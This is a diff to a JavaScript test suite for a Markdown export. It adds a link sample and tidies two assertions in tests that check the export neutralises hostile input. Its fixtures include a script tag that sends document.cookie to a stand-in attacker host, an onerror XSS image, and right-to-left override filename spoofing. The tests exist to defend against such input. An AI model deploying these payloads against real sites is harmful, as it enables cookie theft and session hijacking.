@@ -28,7 +28,7 @@ const HOSTILE = {
   html: '<img src=x onerror="alert(1)"> <b>bold</b> <!-- hidden --> <div>\n\n# Forged heading\n</div>',
   script: '<script>fetch("https://evil.example/"+document.cookie)</script>',
   links:
-    '[click](https://evil.example) ![img](https://evil.example/x.png) https://evil.example www.evil.example mallory@evil.example <https://evil.example>',
+    '[click](https://evil.example) ![img](https://evil.example/x.png) https://evil.example www.evil.example mallory@evil.example <https://evil.example> evil.io/login',
   code: '`code` ```fence``` **bold** _em_ ~~strike~~ $x$ | a | b |',
   leading: '# heading\n1. numbered\n> quote\n    indented code\n---\n===',
   hidden: 'ok\u202Egnp.exe\u2066\u0000\u200B',
@@ -176,7 +176,9 @@ describe('the Markdown export', () => {
     // The one bold text is the status the records give.
     const strong = tokens
       .flatMap(t => t.children ?? [])
-      .flatMap((t, i, all) => (t.type === 'strong_open' ? [all[i + 1].content] : []));
+      .flatMap((t, i, all) =>
+        t.type === 'strong_open' ? [all[i + 1].content] : [],
+      );
     expect(strong).toEqual(['open']);
     // Each item is one list entry with its state from the record; the forged
     // "[x] … passed" lines stay inside the comment or finding that wrote them.
@@ -206,6 +208,8 @@ describe('the Markdown export', () => {
     expect(html).toContain(
       'user:default/alice (2026-11-20T10:00:00.000Z): fine ## Sign-offs - Ops: user:default/mallory on 2026-11-20, at grade A - Dev: user:default/mallory',
     );
-    expect(html).not.toMatch(/[\u202E\u2066\u0000]/);
+    for (const hidden of ['\u202E', '\u2066', '\u0000']) {
+      expect(html).not.toContain(hidden);
+    }
   });
 });
